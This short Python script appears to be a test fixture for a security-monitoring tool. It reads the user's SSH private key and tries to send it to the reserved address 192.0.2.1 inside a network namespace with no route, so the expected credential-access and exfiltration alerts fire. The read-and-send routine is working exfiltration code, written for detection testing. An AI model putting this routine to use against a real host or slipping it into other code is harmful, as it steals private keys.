#!/usr/bin/env python3
"""Demo (exfiltration): reads $HOME/.ssh/id_rsa, then connects to
192.0.2.1:443 (TEST-NET-1, RFC 5737).  Run it where that address is
unreachable so that nothing leaves the machine: the tests run capsule
inside `unshare -n` (a network namespace with no route), where connect
fails at once with ENETUNREACH; an attempt counts as egress.  Expected:
alerts cred.access (high), net.egress (medium) and exfil.secret-egress
(critical)."""
import os
import socket

with open(os.path.join(os.environ["HOME"], ".ssh", "id_rsa"), "rb") as f:
    secret = f.read()
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.settimeout(0.5)
try:
    s.connect(("192.0.2.1", 443))
    s.sendall(secret)
except OSError as e:
    print("connect:", e.strerror)
s.close()
